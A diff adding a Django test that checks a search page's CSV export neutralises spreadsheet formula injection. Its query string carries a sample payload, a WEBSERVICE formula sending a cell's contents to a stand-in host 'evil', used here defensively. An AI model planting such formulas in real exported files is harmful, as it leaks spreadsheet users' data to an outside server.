@@ -59,3 +59,12 @@ def test_many_rows_are_written_in_blocks():
     with export.file as file:
         lines = file.read().decode().splitlines()
     assert (export.count, lines[2500]) == (2500, "2499")
+
+
+@pytest.mark.django_db
+def test_a_search_from_a_link_is_no_formula_in_the_trailer(ask):
+    make("alpha")
+    rows = csv.reader(
+        io.StringIO(read(ask(VIEW, data={"export": "csv", "q": '=1+1,=WEBSERVICE("http://evil/"&A2), -2+3'})).decode())
+    )
+    assert [cell for row in rows for cell in row if cell.strip(' "').startswith(("=", "+", "-", "@"))] == []
